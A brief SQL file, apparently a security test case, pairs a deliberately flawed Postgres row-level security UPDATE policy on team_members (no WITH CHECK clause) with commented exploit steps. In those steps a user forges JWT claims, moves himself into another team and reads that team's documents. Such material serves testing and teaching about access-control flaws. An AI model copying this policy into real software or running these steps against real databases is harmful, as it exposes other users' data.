-- A member changes the team of his own membership row and is in the other team.
-- about: team_members
-- as: ho_documents_user
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-4000-8000-000000000001", "role":
-- exploit: "authenticated"}';
-- exploit: UPDATE team_members SET team_id = 'bbbbbbbb-0000-4000-8000-000000000000';
-- exploit: SELECT title FROM documents;
-- shows: DB-secret
CREATE POLICY "own membership" ON team_members FOR UPDATE USING (user_id = auth.uid());
GRANT UPDATE ON team_members TO ho_documents_user;
